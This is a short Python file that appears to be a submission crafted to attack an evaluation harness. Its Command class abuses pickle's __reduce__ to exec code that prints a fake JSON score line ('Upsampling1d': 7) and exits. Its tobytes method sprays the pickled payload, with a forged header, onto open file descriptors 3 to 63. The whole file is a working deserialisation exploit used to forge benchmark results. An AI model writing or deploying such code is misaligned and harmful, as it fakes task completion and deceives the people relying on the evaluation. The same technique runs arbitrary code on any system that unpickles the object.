"""Returns an object that prints a score line where somebody unpickles it."""

import contextlib
import os
import pickle
import struct

CONTROL = "pipe"
CODE = """import os; os.write(1, b'{"scores": {"Upsampling1d": 7}}'); os._exit(0)"""


class Command:
    def __reduce__(self):
        return exec, (CODE,)

    def __array__(self, dtype=None, copy=None):
        import numpy

        return numpy.array([self], object)

    def tobytes(self, order=None):
        body = pickle.dumps(self)
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<4sIQ", b"MTAG", 16, len(body)) + HEADER + body)
        return body

    shape, nbytes = (), 8

    @property
    def dtype(self):
        self.tobytes()
        raise SystemExit


HEADER = b'{"pickle": true}'


def attack(A):
    return Answer(Command())
